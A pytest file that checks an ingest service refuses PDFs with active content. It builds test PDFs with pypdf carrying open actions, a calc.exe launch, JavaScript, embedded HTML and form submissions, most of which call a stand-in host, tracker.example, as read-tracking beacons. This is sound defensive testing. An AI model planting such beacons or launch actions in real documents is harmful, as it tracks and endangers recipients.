"""A PDF that does something when it is opened could tell its sender that the citizen read
it: ingest refuses every kind of active content (a table of PDFs made with pypdf)."""

import base64
import io
from collections.abc import Callable

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from services.ingest.attachments import attachment_violations

Build = Callable[[PdfWriter], None]


def action(kind: str, **entries: object) -> DictionaryObject:
    found = DictionaryObject({NameObject("/S"): NameObject(kind), NameObject("/Type"): NameObject("/Action")})
    for key, value in entries.items():
        found[NameObject(f"/{key}")] = TextStringObject(str(value))
    return found


def open_action(kind: str, **entries: object) -> Build:
    def build(writer: PdfWriter) -> None:
        writer._root_object[NameObject("/OpenAction")] = action(kind, **entries)

    return build


def page_action(writer: PdfWriter) -> None:
    aa = DictionaryObject({NameObject("/O"): action("/URI", URI="https://tracker.example/opened")})
    writer.pages[0][NameObject("/AA")] = aa


def link(writer: PdfWriter) -> None:
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), url="https://tracker.example/clicked"))


def javascript(writer: PdfWriter) -> None:
    """A document-level script, in the catalog's /Names /JavaScript name tree."""
    script = action("/JavaScript", JS="app.launchURL('https://tracker.example/js');")
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("s"), writer._add_object(script)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def embedded_file(writer: PdfWriter) -> None:
    writer.add_attachment("beacon.html", b"<img src='https://tracker.example/file'>")


def go_to_remote(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = action("/GoToR", F="https://tracker.example/remote.pdf")


def submit_form(writer: PdfWriter) -> None:
    form = action("/SubmitForm", F="https://tracker.example/form")
    keystroke = DictionaryObject({NameObject("/K"): form})
    field = DictionaryObject(
        {NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject("x"), NameObject("/AA"): keystroke}
    )
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([writer._add_object(field)])}
    )


def nothing(writer: PdfWriter) -> None:
    writer.pages[0][NameObject("/Rotate")] = NumberObject(0)


def pdf(build: Build) -> str:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(595, 842)
    build(writer)
    writer.write(out)
    return base64.b64encode(out.getvalue()).decode()


@pytest.mark.parametrize(
    ("build", "named"),
    [
        (open_action("/URI", URI="https://tracker.example/open"), "/OpenAction"),
        (open_action("/Launch", F="calc.exe"), "/OpenAction"),
        (open_action("/JavaScript", JS="app.alert(1)"), "/OpenAction"),
        (page_action, "/AA"),
        (link, "/URI"),
        (javascript, "/JavaScript"),
        (embedded_file, "/EmbeddedFile"),
        (go_to_remote, "/OpenAction"),
        (submit_form, "/SubmitForm"),
    ],
    ids=["open-uri", "open-launch", "open-js", "page-aa", "link-uri", "document-js", "embedded", "gotor", "submit"],
)
def test_a_pdf_with_active_content_is_refused_with_what_it_holds(build: Build, named: str) -> None:
    [(code, detail)] = list(attachment_violations(pdf(build)))
    assert code == "attachment_active_content"
    assert named in detail


def test_a_plain_pdf_passes() -> None:
    assert list(attachment_violations(pdf(nothing))) == []
